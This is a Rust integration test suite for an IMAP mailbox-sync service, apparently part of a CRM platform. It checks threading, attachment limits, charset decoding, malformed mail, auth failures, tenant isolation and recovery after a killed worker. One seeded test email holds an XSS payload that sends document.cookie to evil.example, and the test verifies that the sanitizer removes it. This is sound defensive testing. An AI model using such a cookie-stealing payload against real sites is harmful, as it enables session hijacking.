//! Mailbox sync against a real Dovecot (started per test by the testkit) on a real
//! database, both backends. The ports read the CRM and agreements tables the way
//! the gateway's implementations do.

// Tests inspect rows across organizations; the scoping rule is for services.
#![allow(clippy::disallowed_methods)]

use std::sync::Arc;

use atrium_comms::dto::{ConnectionIn, ImapIn, Provider, SyncState, ThreadFilter};
use atrium_comms::entity::{connection, message, thread};
use atrium_comms::{CommsConfig, CommsService, RunOutcome};
use atrium_events::agreements::EngagementId;
use atrium_events::crm::ContactId;
use atrium_kernel::{AppError, Clock, Email, OrgCtx, OrganizationId, PageRequest, Principal, Role, SystemClock, Text};
use atrium_outbox::Platform;
use atrium_outbox::entity::event;
use atrium_testkit::TestDb;
use atrium_testkit::dovecot::{Dovecot, PASSWORD, USER};
use common::{TableContacts, TableEngagements};
use sea_orm::sea_query::{Alias, Expr, ExprTrait, Query};
use sea_orm::{ColumnTrait, ConnectionTrait, DatabaseConnection, EntityTrait, PaginatorTrait, QueryFilter};
use uuid::Uuid;

mod common;

const MAX_PART: u64 = 64 * 1024;
const MAX_MESSAGE: u64 = 512 * 1024;

fn service(db: &TestDb) -> CommsService {
    service_with(db, Arc::new(common::HeldAttachments::default()))
}

fn service_with(db: &TestDb, attachments: Arc<dyn atrium_comms::Attachments>) -> CommsService {
    let clock: Arc<dyn Clock> = Arc::new(SystemClock);
    let platform = Platform::new(db.conn.clone(), clock.clone(), b"comms test secret");
    let credentials = platform.protect(&atrium_comms::CREDENTIALS_COLUMN);
    let cfg = CommsConfig { max_part_bytes: MAX_PART, max_message_bytes: MAX_MESSAGE, ..CommsConfig::default() };
    CommsService::new(
        db.conn.clone(),
        clock,
        atrium_comms::Ports {
            engagements: Arc::new(TableEngagements(db.conn.clone())),
            contacts: Arc::new(TableContacts(db.conn.clone())),
            hosts: Arc::new(common::AnyHost),
            attachments,
        },
        (credentials, atrium_comms::token_vaults(&platform)),
        cfg,
        atrium_comms::SyncMetrics::new().expect("metrics"),
    )
}

async fn org(db: &TestDb) -> OrgCtx {
    let org = atrium_testkit::seed_organization(&db.conn).await;
    let user = atrium_testkit::seed_user(&db.conn).await;
    OrgCtx { org_id: org.into(), principal: Principal::User(user.into()), role: Role::Owner }
}

async fn seed_contact(db: &TestDb, org: OrganizationId, email: &str) -> ContactId {
    let id = Uuid::now_v7();
    let now = chrono::Utc::now();
    let stmt = Query::insert()
        .into_table(Alias::new("contacts"))
        .columns(
            [
                "id",
                "organization_id",
                "first_name",
                "last_name",
                "email",
                "email_normalized",
                "version",
                "created_at",
                "updated_at",
            ]
            .map(Alias::new),
        )
        .values_panic([
            id.into(),
            org.into_uuid().into(),
            "Hank".into(),
            "Scorpio".into(),
            email.into(),
            email.to_lowercase().into(),
            1i32.into(),
            now.into(),
            now.into(),
        ])
        .to_owned();
    db.conn.execute(&stmt).await.expect("seed contact");
    id.into()
}

fn imap_in(server: &Dovecot, password: &str) -> ConnectionIn {
    ConnectionIn {
        provider: Provider::Imap,
        email_address: Email::parse("ada@example.com").expect("email"),
        imap: Some(ImapIn {
            host: Text::parse("127.0.0.1").expect("host"),
            port: u32::from(server.port),
            tls: false,
            username: Text::parse(USER).expect("user"),
            password: Text::parse(password).expect("password"),
            folder: None,
        }),
        sync_window_days: None,
    }
}

fn date() -> String {
    chrono::Utc::now().to_rfc2822()
}

/// The mailbox: every kind of message the issue names.
fn seed(server: &Dovecot) -> Vec<Vec<u8>> {
    let d = date();
    let kickoff = format!(
        "From: Hank Scorpio <Hank@Globex.example>\r\nTo: Ada <ada@example.com>\r\nSubject: Kick-off\r\n\
Date: {d}\r\nMessage-ID: <kickoff@globex.example>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n\
--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nShall we start on Monday?\r\n\
--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Shall we start on <b>Monday</b>?</p>\r\n--alt--\r\n"
    );
    let reply = format!(
        "From: Ada <ada@example.com>\r\nTo: Hank Scorpio <hank@globex.example>\r\nSubject: Re: Kick-off\r\n\
Date: {d}\r\nMessage-ID: <reply1@example.com>\r\nIn-Reply-To: <kickoff@globex.example>\r\n\
References: <kickoff@globex.example>\r\n\r\nMonday works.\r\n"
    );
    let pdf = "JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSPj4Kc3RyZWFtCg==";
    let big = "QUFB".repeat(30_000); // 90,000 bytes decoded: over MAX_PART
    let attachment = format!(
        "From: Hank Scorpio <hank@globex.example>\r\nTo: ada@example.com\r\nSubject: The brief\r\nDate: {d}\r\n\
Message-ID: <brief@globex.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n\
--mix\r\nContent-Type: text/plain\r\n\r\nThe brief is attached.\r\n\
--mix\r\nContent-Type: application/pdf; name=\"brief.pdf\"\r\nContent-Disposition: attachment; filename=\"brief.pdf\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{pdf}\r\n\
--mix\r\nContent-Type: application/octet-stream; name=\"huge.bin\"\r\nContent-Disposition: attachment; filename=\"huge.bin\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{big}\r\n--mix--\r\n"
    );
    let iso = format!(
        "From: =?UTF-8?B?SsO8cmdlbiBNw7xsbGVy?= <juergen@newcomer.example>\r\nTo: ada@example.com\r\n\
Subject: =?ISO-8859-1?Q?Gr=FC=DFe_aus_M=FCnchen?=\r\nDate: {d}\r\nMessage-ID: <iso@newcomer.example>\r\n\
MIME-Version: 1.0\r\nContent-Type: text/plain; charset=ISO-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
Viele Gr=FC=DFe aus M=FCnchen!\r\n"
    )
    .into_bytes();
    let xss = format!(
        "From: Eve <eve@evil.example>\r\nTo: ada@example.com\r\nSubject: Invoice\r\nDate: {d}\r\n\
Message-ID: <xss@evil.example>\r\nContent-Type: text/html\r\n\r\n\
<p onclick=\"steal()\">Pay here<script>fetch('https://evil.example/'+document.cookie)</script>\
<a href=\"javascript:alert(document.cookie)\">now</a> or <a href=\"https://ok.example/\">here</a></p>\r\n"
    );
    let broken = "From: someone@broken.example\r\nSubject: Broken =?UTF-8?Q?unterminated\r\n\
Content-Type: multipart/mixed; boundary=\"nope\"\r\n\r\n--wrong\r\nstuff without an end \0 and a NUL\r\n"
        .to_owned();
    let garbage = b"\x00\x01\x02 this is not a message\r\n".to_vec();
    let huge = format!(
        "From: hank@globex.example\r\nTo: ada@example.com\r\nSubject: Huge\r\nDate: {d}\r\nMessage-ID: <huge@globex.example>\r\n\r\n{}\r\n",
        "x".repeat(600 * 1024)
    );
    let all: Vec<Vec<u8>> = vec![
        kickoff.clone().into_bytes(),
        reply.into_bytes(),
        attachment.into_bytes(),
        iso,
        kickoff.into_bytes(), // the duplicate: delivered twice
        xss.into_bytes(),
        broken.into_bytes(),
        garbage,
        huge.into_bytes(),
    ];
    for m in &all {
        server.deliver(m);
    }
    all
}

async fn events_of_type(conn: &DatabaseConnection, org: OrganizationId, t: &str) -> Vec<event::Model> {
    event::Entity::find()
        .filter(event::Column::OrganizationId.eq(org.into_uuid()))
        .filter(event::Column::EventType.eq(t))
        .all(conn)
        .await
        .expect("events")
}

async fn count_messages(conn: &DatabaseConnection, org: OrganizationId) -> u64 {
    message::Entity::find()
        .filter(message::Column::OrganizationId.eq(org.into_uuid()))
        .count(conn)
        .await
        .expect("count")
}

async fn first_sync_then_incremental_then_uidvalidity(db: &TestDb) {
    let Some(server) = Dovecot::start() else { return };
    seed(&server);
    let svc = service(db);
    let ctx = org(db).await;
    let hank = seed_contact(db, ctx.org_id, "hank@globex.example").await;
    let conn = svc.create_connection(&ctx, imap_in(&server, PASSWORD)).await.expect("create");
    assert_eq!(conn.health.state, SyncState::Active);

    let report = svc.sync_now(&ctx, conn.id).await.expect("sync");
    assert_eq!(report.outcome, RunOutcome::Synced, "{}", server.log());
    // kickoff, reply, brief, iso, xss, broken = 6; the duplicate is found; garbage and huge are skipped.
    assert_eq!((report.imported, report.duplicates), (6, 1), "{report:?}");
    let reasons: Vec<&str> = report.skipped.iter().map(|s| s.reason.as_str()).collect();
    assert_eq!(report.skipped.len(), 2, "{reasons:?}");
    assert!(reasons.iter().any(|r| r.contains("over the 524288 bytes allowed")), "{reasons:?}");
    assert!(reasons.iter().any(|r| r.contains("RFC 5322")), "{reasons:?}");
    assert_eq!(count_messages(&db.conn, ctx.org_id).await, 6);

    let health = svc.connection_health(&ctx, conn.id).await.expect("health");
    assert_eq!(health.state, SyncState::Active);
    assert_eq!((health.imported_last_run, health.imported_total, health.skipped_last_run), (6, 6, 2));
    assert!(health.last_success_at.is_some() && health.lag_seconds.is_some() && health.next_run_at.is_some());
    assert_eq!(health.last_skips.len(), 2);
    let m = svc.metrics();
    assert_eq!((m.imported.get(), m.skipped.get(), m.runs.with_label_values(&["synced"]).get()), (6, 2, 1));
    assert!(m.last_success.with_label_values(&[&conn.id.to_string()]).get() > 0);

    // Threading by References / In-Reply-To; the reply from the mailbox itself is outbound.
    let threads = svc.list_threads(&ctx, &ThreadFilter::default(), PageRequest::first(50)).await.expect("threads");
    let kickoff = threads.items.iter().find(|t| t.subject == "Kick-off").expect("kick-off thread");
    assert_eq!(kickoff.message_count, 2);
    assert_eq!(kickoff.contact_ids, vec![hank]);
    assert!(kickoff.engagement_id.is_none() && !kickoff.shared_with_client);
    let msgs = svc.list_messages(&ctx, kickoff.id, PageRequest::first(50)).await.expect("messages");
    assert_eq!(msgs.items.len(), 2);
    let first = &msgs.items[0];
    assert_eq!((first.direction.as_str(), first.from.address.as_str()), ("inbound", "hank@globex.example"));
    assert_eq!(first.from_contact_id, Some(hank));
    assert_eq!(first.body_text.trim(), "Shall we start on Monday?");
    assert_eq!(first.body_html.as_deref().map(str::trim), Some("<p>Shall we start on <b>Monday</b>?</p>"));
    assert_eq!(first.message_id, "kickoff@globex.example");
    assert_eq!(msgs.items[1].direction, "outbound");
    assert_eq!(msgs.items[1].in_reply_to.as_deref(), Some("kickoff@globex.example"));

    let by_contact = ThreadFilter { contact_id: Some(hank), ..ThreadFilter::default() };
    let of_hank = svc.list_threads(&ctx, &by_contact, PageRequest::first(50)).await.expect("by contact");
    let mut subjects: Vec<&str> = of_hank.items.iter().map(|t| t.subject.as_str()).collect();
    subjects.sort_unstable();
    assert_eq!(subjects, vec!["Kick-off", "The brief"]);

    // Attachments recorded; the part over the limit skipped with its reason.
    let brief = threads.items.iter().find(|t| t.subject == "The brief").expect("brief");
    let m = &svc.list_messages(&ctx, brief.id, PageRequest::first(5)).await.expect("brief").items[0];
    assert_eq!(m.attachments.len(), 1, "{:?}", m.attachments);
    assert_eq!(m.attachments[0].filename.as_deref(), Some("brief.pdf"));
    assert_eq!(m.attachments[0].media_type, "application/pdf");
    assert_eq!(m.skipped_parts.len(), 1);
    assert_eq!(m.skipped_parts[0].part, "attachment");
    assert!(m.skipped_parts[0].reason.contains("65536"), "{:?}", m.skipped_parts);

    // ISO-8859-1 body and RFC 2047 headers decoded.
    let iso = threads.items.iter().find(|t| t.subject == "Grüße aus München").expect("iso thread");
    let m = &svc.list_messages(&ctx, iso.id, PageRequest::first(5)).await.expect("iso").items[0];
    assert_eq!(m.from.name.as_deref(), Some("Jürgen Müller"));
    assert_eq!(m.body_text.trim(), "Viele Grüße aus München!");

    // Script, event handler and javascript: link removed; the safe link stays.
    let xss = threads.items.iter().find(|t| t.subject == "Invoice").expect("xss thread");
    let m = &svc.list_messages(&ctx, xss.id, PageRequest::first(5)).await.expect("xss").items[0];
    let html = m.body_html.as_deref().expect("html");
    assert!(!html.contains("<script") && !html.contains("javascript:") && !html.contains("onclick"), "{html}");
    assert!(html.contains("https://ok.example/") && html.contains("Pay here"), "{html}");

    // The malformed message is imported with what could be read (and no NUL).
    let broken = message::Entity::find()
        .filter(message::Column::FromAddress.eq("someone@broken.example"))
        .one(&db.conn)
        .await
        .expect("query")
        .expect("broken message imported");
    assert!(!broken.body_text.contains('\0'));

    // Unknown senders: every inbound sender without a contact, not Hank.
    let unknown = svc.unknown_senders(&ctx, PageRequest::first(50)).await.expect("unknown");
    let mut addrs: Vec<&str> = unknown.items.iter().map(|u| u.email_address.as_str()).collect();
    addrs.sort_unstable();
    assert_eq!(addrs, vec!["eve@evil.example", "juergen@newcomer.example", "someone@broken.example"]);

    // One event per imported message and per new thread, in the outbox.
    assert_eq!(events_of_type(&db.conn, ctx.org_id, "comms.message.received").await.len(), 6);
    assert_eq!(events_of_type(&db.conn, ctx.org_id, "comms.thread.created").await.len(), threads.items.len());
    let received = events_of_type(&db.conn, ctx.org_id, "comms.message.received").await;
    assert!(received.iter().all(|e| e.actor == "system:comms-sync"));

    // Incremental: only the new messages; a reply without References joins by subject.
    let d = date();
    server.deliver(
        format!(
            "From: hank@globex.example\r\nTo: ada@example.com\r\nSubject: RE: Kick-off\r\nDate: {d}\r\n\
Message-ID: <reply2@globex.example>\r\nIn-Reply-To: <reply1@example.com>\r\n\r\nGreat, see you.\r\n"
        )
        .as_bytes(),
    );
    server.deliver(
        format!(
            "From: hank@globex.example\r\nTo: ada@example.com\r\nSubject: Re: The brief\r\nDate: {d}\r\n\
Message-ID: <brief2@globex.example>\r\n\r\nOne more thing.\r\n"
        )
        .as_bytes(),
    );
    let report = svc.sync_now(&ctx, conn.id).await.expect("incremental");
    assert_eq!((report.outcome.clone(), report.imported, report.duplicates), (RunOutcome::Synced, 2, 0), "{report:?}");
    assert!(report.skipped.is_empty(), "the skipped messages are behind the cursor: {report:?}");
    assert_eq!(svc.get_thread(&ctx, kickoff.id).await.expect("thread").message_count, 3);
    assert_eq!(svc.get_thread(&ctx, brief.id).await.expect("thread").message_count, 2);
    assert_eq!(count_messages(&db.conn, ctx.org_id).await, 8);
    assert_eq!(svc.connection_health(&ctx, conn.id).await.expect("health").imported_total, 8);

    // Nothing new: nothing imported.
    let report = svc.sync_now(&ctx, conn.id).await.expect("idle");
    assert_eq!((report.imported, report.duplicates), (0, 0));

    // UIDVALIDITY changes: a full read, and nothing twice.
    server.set_uid_validity(4_242_424);
    let report = svc.sync_now(&ctx, conn.id).await.expect("after uidvalidity");
    assert_eq!(report.outcome, RunOutcome::Synced);
    assert_eq!((report.imported, report.duplicates), (0, 9), "{report:?}");
    assert_eq!(count_messages(&db.conn, ctx.org_id).await, 8);
    assert_eq!(events_of_type(&db.conn, ctx.org_id, "comms.message.received").await.len(), 8);

    // A requested resync reads the window again, also without duplicates.
    let queued = svc.resync_connection(&ctx, conn.id).await.expect("resync");
    assert!(queued.health.resync_requested);
    let reports = svc.sync_due().await.expect("due");
    let mine: Vec<_> = reports.iter().filter(|r| r.duplicates == 9).collect();
    assert_eq!(mine.len(), 1, "{reports:?}");
    assert_eq!(count_messages(&db.conn, ctx.org_id).await, 8);
    assert!(!svc.connection_health(&ctx, conn.id).await.expect("health").resync_requested);
}

async fn wrong_password_is_auth_failed_and_published(db: &TestDb) {
    let Some(server) = Dovecot::start() else { return };
    let svc = service(db);
    let ctx = org(db).await;
    let conn = svc.create_connection(&ctx, imap_in(&server, "not the password")).await.expect("create");
    let report = svc.sync_now(&ctx, conn.id).await.expect("sync");
    assert!(matches!(report.outcome, RunOutcome::AuthFailed(_)), "{report:?}");
    assert_eq!(svc.metrics().runs.with_label_values(&["auth_failed"]).get(), 1);
    let health = svc.connection_health(&ctx, conn.id).await.expect("health");
    assert_eq!(health.state, SyncState::AuthFailed);
    assert!(health.last_error.as_deref().is_some_and(|e| e.contains("refused the credentials")), "{health:?}");
    assert!(health.last_error_at.is_some() && health.next_run_at.is_none());
    let events = events_of_type(&db.conn, ctx.org_id, "comms.connection.auth_failed").await;
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].aggregate_id, conn.id.into_uuid());
    // Not picked up by the schedule until resumed.
    let due = svc.sync_due().await.expect("due");
    assert!(due.is_empty(), "{due:?}");
    assert_eq!(svc.sync_now(&ctx, conn.id).await.expect("sync").outcome, RunOutcome::NotRun);
    // Resumed with the same password: refused again, and said so again.
    let resumed = svc.resume_connection(&ctx, conn.id).await.expect("resume");
    assert_eq!(resumed.health.state, SyncState::Active);
    assert!(matches!(svc.sync_now(&ctx, conn.id).await.expect("sync").outcome, RunOutcome::AuthFailed(_)));
    assert_eq!(events_of_type(&db.conn, ctx.org_id, "comms.connection.auth_failed").await.len(), 2);
    // New credentials: active at once, and the sync goes through.
    server.deliver(b"From: hank@globex.example\r\nTo: ada@example.com\r\nSubject: Hi\r\nMessage-ID: <hi@globex.example>\r\n\r\nHi\r\n");
    let patch = atrium_comms::dto::ConnectionPatch {
        imap: Some(atrium_comms::dto::ImapPatch {
            password: Some(Text::parse(PASSWORD).expect("password")),
            ..Default::default()
        }),
        ..Default::default()
    };
    let stale = svc.update_connection(&ctx, conn.id, patch.clone(), atrium_kernel::IfMatch(Some(0))).await;
    assert!(matches!(stale, Err(AppError::Conflict { .. })), "{stale:?}");
    let updated = svc.update_connection(&ctx, conn.id, patch, atrium_kernel::IfMatch(None)).await.expect("update");
    assert_eq!(updated.health.state, SyncState::Active);
    let updates = events_of_type(&db.conn, ctx.org_id, "comms.connection.updated").await;
    assert_eq!(updates[0].data["changed"], serde_json::json!(["password"]));
    assert!(!updates[0].data.to_string().contains(PASSWORD));
    let report = svc.sync_now(&ctx, conn.id).await.expect("sync");
    assert_eq!((report.outcome, report.imported), (RunOutcome::Synced, 1));
}

async fn unreachable_server_backs_off_and_says_so(db: &TestDb) {
    let svc = service(db);
    let ctx = org(db).await;
    let port = atrium_testkit::oidc::free_port().expect("port");
    let mut input = imap_in_port(port);
    input.sync_window_days = Some(7);
    let conn = svc.create_connection(&ctx, input).await.expect("create");
    let report = svc.sync_now(&ctx, conn.id).await.expect("sync");
    assert!(matches!(report.outcome, RunOutcome::Failed(_)), "{report:?}");
    let health = svc.connection_health(&ctx, conn.id).await.expect("health");
    assert_eq!((health.state, health.consecutive_failures), (SyncState::BackingOff, 1));
    assert!(health.next_run_at.is_some_and(|t| t > chrono::Utc::now() + chrono::Duration::minutes(5)));
    assert_eq!(events_of_type(&db.conn, ctx.org_id, "comms.connection.sync_failed").await.len(), 1);
    // Paused: stays paused, and is not run.
    let paused = svc.pause_connection(&ctx, conn.id).await.expect("pause");
    assert_eq!(paused.health.state, SyncState::Paused);
    assert_eq!(svc.sync_now(&ctx, conn.id).await.expect("sync").outcome, RunOutcome::NotRun);
}

fn imap_in_port(port: u16) -> ConnectionIn {
    ConnectionIn {
        provider: Provider::Imap,
        email_address: Email::parse("ada@example.com").expect("email"),
        imap: Some(ImapIn {
            host: Text::parse("127.0.0.1").expect("host"),
            port: u32::from(port),
            tls: false,
            username: Text::parse(USER).expect("user"),
            password: Text::parse(PASSWORD).expect("password"),
            folder: None,
        }),
        sync_window_days: None,
    }
}

async fn other_tenants_and_bad_input(db: &TestDb) {
    let svc = service(db);
    let ctx = org(db).await;
    let other = org(db).await;
    let conn = svc.create_connection(&ctx, imap_in_port(1)).await.expect("create");
    // The password is sealed, never stored as given.
    let row = connection::Entity::find_by_id(conn.id.into_uuid()).one(&db.conn).await.expect("q").expect("row");
    assert!(row.credentials_ciphertext.starts_with("v2:") && !row.credentials_ciphertext.contains(PASSWORD));
    let thread_id = seed_thread(db, ctx.org_id).await;

    assert!(matches!(svc.get_connection(&other, conn.id).await, Err(AppError::NotFound(_))));
    assert!(matches!(svc.connection_health(&other, conn.id).await, Err(AppError::NotFound(_))));
    assert!(matches!(svc.pause_connection(&other, conn.id).await, Err(AppError::NotFound(_))));
    assert!(matches!(svc.sync_now(&other, conn.id).await, Err(AppError::NotFound(_))));
    assert!(matches!(svc.get_thread(&other, thread_id.into()).await, Err(AppError::NotFound(_))));
    assert!(matches!(
        svc.share_thread(&other, thread_id.into(), true, atrium_kernel::IfMatch(None)).await,
        Err(AppError::NotFound(_))
    ));
    let theirs = svc.list_threads(&other, &ThreadFilter::default(), PageRequest::first(50)).await.expect("list");
    assert!(theirs.items.is_empty());
    let shared = svc.share_thread(&ctx, thread_id.into(), true, atrium_kernel::IfMatch(None)).await.expect("share");
    assert!(shared.shared_with_client);

    // Unsupported providers, plaintext off loopback, a missing block: 422 naming the field, nothing written.
    let before = connection::Entity::find().count(&db.conn).await.expect("count");
    let mut gmail = imap_in_port(1);
    gmail.provider = Provider::Gmail;
    let mut plain = imap_in_port(143);
    if let Some(i) = plain.imap.as_mut() {
        i.host = Text::parse("imap.example.com").expect("host");
    }
    let mut missing = imap_in_port(1);
    missing.imap = None;
    for (input, field) in [(gmail, "provider"), (plain, "imap.tls"), (missing, "imap")] {
        match svc.create_connection(&ctx, input).await {
            Err(AppError::Validation(errors)) => assert_eq!(errors[0].field, field),
            other => panic!("expected a 422 on {field}, got {other:?}"),
        }
    }
    assert_eq!(connection::Entity::find().count(&db.conn).await.expect("count"), before);
    // Filing under an engagement that is not the organization's.
    let filed = svc
        .file_thread(
            &ctx,
            thread_id.into(),
            atrium_comms::dto::FileThreadIn { engagement_id: EngagementId::new() },
            atrium_kernel::IfMatch(None),
        )
        .await;
    assert!(matches!(filed, Err(AppError::Validation(ref e)) if e[0].field == "engagement_id"), "{filed:?}");
    let row = thread::Entity::find_by_id(thread_id).one(&db.conn).await.expect("q").expect("row");
    assert!(row.engagement_id.is_none());
}

async fn seed_thread(db: &TestDb, org: OrganizationId) -> Uuid {
    use sea_orm::ActiveValue::Set;
    let now = chrono::Utc::now();
    let id = Uuid::now_v7();
    thread::Entity::insert(thread::ActiveModel {
        id: Set(id),
        organization_id: Set(org.into_uuid()),
        engagement_id: Set(None),
        connection_id: Set(None),
        subject: Set("Seeded".into()),
        subject_normalized: Set("seeded".into()),
        participants: Set(serde_json::json!(["hank@globex.example"])),
        participants_key: Set("hank@globex.example".into()),
        provider_thread_ids: Set(serde_json::json!([])),
        shared_with_client: Set(false),
        message_count: Set(0),
        last_message_at: Set(now),
        version: Set(1),
        created_at: Set(now),
        updated_at: Set(now),
    })
    .exec_without_returning(&db.conn)
    .await
    .expect("seed thread");
    id
}

/// A worker that dies mid-sync (its task dropped at an await, as a killed process
/// stops: no cleanup runs) keeps the connection leased; once the lease runs out the
/// next run continues from the cursor: nothing lost, nothing twice.
async fn a_run_killed_midway_is_completed_by_the_next(db: &TestDb) {
    let Some(server) = Dovecot::start() else { return };
    let d = date();
    for i in 0..40 {
        server.deliver(
            format!(
                "From: hank@globex.example\r\nTo: ada@example.com\r\nSubject: Update {i}\r\nDate: {d}\r\n\
Message-ID: <update-{i}@globex.example>\r\n\r\nStatus {i}.\r\n"
            )
            .as_bytes(),
        );
    }
    let svc = service(db);
    let ctx = org(db).await;
    let conn = svc.create_connection(&ctx, imap_in(&server, PASSWORD)).await.expect("create");
    let worker = tokio::spawn({
        let (svc, id) = (svc.clone(), conn.id);
        async move { svc.sync_now(&ctx, id).await }
    });
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while count_messages(&db.conn, ctx.org_id).await < 5 {
        assert!(std::time::Instant::now() < deadline, "the first run imported nothing: {}", server.log());
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    worker.abort();
    let _ = worker.await;
    // A commit the driver had already sent still lands (SQLite runs it on its own thread).
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let before = count_messages(&db.conn, ctx.org_id).await;
    assert!(before < 40, "the run was stopped midway ({before} imported)");

    // Still leased by the dead worker: nobody else syncs it.
    assert_eq!(svc.sync_now(&ctx, conn.id).await.expect("sync").outcome, RunOutcome::NotRun);
    assert!(svc.connection_health(&ctx, conn.id).await.expect("health").syncing);
    // The lease runs out.
    let past = chrono::Utc::now() - chrono::Duration::seconds(1);
    let stmt = Query::update()
        .table(Alias::new("mailbox_sync_states"))
        .value(Alias::new("locked_until"), past)
        .and_where(Expr::col(Alias::new("id")).eq(conn.id.into_uuid()))
        .to_owned();
    db.conn.execute(&stmt).await.expect("expire lease");

    let report = svc.sync_now(&ctx, conn.id).await.expect("sync");
    assert_eq!(report.outcome, RunOutcome::Synced, "{report:?}");
    assert_eq!(u64::from(report.imported), 40 - before, "{report:?}");
    assert_eq!(count_messages(&db.conn, ctx.org_id).await, 40);
    assert_eq!(events_of_type(&db.conn, ctx.org_id, "comms.message.received").await.len(), 40);
}

atrium_testkit::backend_tests!(
    a_run_killed_midway_is_completed_by_the_next,
    first_sync_then_incremental_then_uidvalidity,
    wrong_password_is_auth_failed_and_published,
    unreachable_server_backs_off_and_says_so,
    other_tenants_and_bad_input,
);
